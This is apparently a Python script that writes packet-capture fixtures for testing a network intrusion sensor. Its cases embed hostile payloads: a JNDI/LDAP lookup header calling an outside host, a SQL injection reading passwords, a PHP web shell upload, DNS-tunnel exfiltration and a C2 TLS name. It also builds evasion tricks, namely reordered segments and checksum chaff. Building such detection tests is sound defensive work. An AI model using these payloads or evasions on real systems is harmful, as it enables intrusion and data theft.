#!/usr/bin/env python3
"""Writes the input.pcap of every case that is named here. The files are committed; run this after changing a story."""
import pathlib

from pcap import (ACK, PSH, Tcp, dns_query, http_response, tls_client_hello, udp, with_vlans, write)

HERE = pathlib.Path(__file__).resolve().parent
CLIENT, PORTAL, SIX, PORTAL_SIX = "10.10.0.10", "10.30.0.10", "fd00:10::10", "fd00:30::10"


def request(line, *headers, body=b""):
    head = [line + " HTTP/1.1", "Host: portal.example", *headers]
    if body:
        head.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body


def exchange(sent, size=1400, client=CLIENT, server=PORTAL):
    flow = Tcp(client, server, 40000, 80)
    return flow.open() + flow.client(sent, size) + flow.server(http_response()) + flow.close()


LOOKUP = "X-Api-Version: ${jndi:ldap://203.0.113.10/a}"
INJECTION = "GET /search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
SHELL = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n"


def http_disorder():
    """Segments arrive last first; the middle one twice."""
    flow = Tcp(CLIENT, PORTAL, 40000, 80)
    packets = flow.open()
    data, base = request("GET /", LOOKUP), flow.seq[0]
    parts = [(at, data[at:at + 20]) for at in range(0, len(data), 20)]
    flow.seq[0] += len(data)
    order = list(reversed(parts)) + [parts[len(parts) // 2]]
    packets += [flow.packet(0, PSH | ACK, part, seq=base + at) for at, part in order]
    return packets + flow.server(http_response()) + flow.close()


def bad_checksum():
    """A chaff segment that the server throws away covers the exploit; the true one follows in its place."""
    flow = Tcp(CLIENT, PORTAL, 40000, 80)
    packets = flow.open()
    data, base = request("GET /", LOOKUP), flow.seq[0]
    chaff = bytearray(flow.packet(0, PSH | ACK, b"x" * len(data), seq=base))
    chaff[14 + 20 + 16] ^= 0xFF
    return packets + [bytes(chaff)] + flow.client(data) + flow.server(http_response()) + flow.close()


def tls():
    flow = Tcp(CLIENT, "203.0.113.10", 40000, 443)
    return flow.open() + flow.client(tls_client_hello("c2.attacker.example"), size=50) + flow.close()


TUNNEL = "6d656e7368656e2d64656d6f2d6578666c747261746564.64617461312e2e2e2e2e2e2e2e2e2e2e.t.example"

CASES = {
    "http-header": lambda: exchange(request("GET /", LOOKUP)),
    "http-header-inline": lambda: exchange(request("GET /", LOOKUP)),
    "http-header-byte-by-byte": lambda: exchange(request("GET /", LOOKUP), size=1),
    "http-header-disorder": http_disorder,
    "http-header-ipv6": lambda: exchange(request("GET /", LOOKUP), client=SIX, server=PORTAL_SIX),
    "http-header-qinq": lambda: with_vlans(exchange(request("GET /", LOOKUP)), 100, 200),
    "http-uri-encoded": lambda: exchange(request(INJECTION)),
    "http-body-upload": lambda: exchange(request("POST /upload", "Content-Type: multipart/form-data; boundary=b", body=SHELL), size=60),
    "http-harmless": lambda: exchange(request("GET /jndi?ldap=no")),
    "bad-checksum-chaff": bad_checksum,
    "pass-before-drop": lambda: exchange(request("GET /", LOOKUP)),
    "dns-tunnel": lambda: udp(CLIENT, PORTAL, 40001, 53, dns_query(TUNNEL, kind=16)) + udp(CLIENT, PORTAL, 40002, 53, dns_query("portal.example")),
    "dns-tunnel-from-mdns-port": lambda: udp(CLIENT, PORTAL, 5353, 53, dns_query(TUNNEL, kind=16)),
    "tls-server-name": tls,
}

if __name__ == "__main__":
    for name, story in CASES.items():
        (HERE / "sensor" / name).mkdir(parents=True, exist_ok=True)
        write(HERE / "sensor" / name / "input.pcap", story())
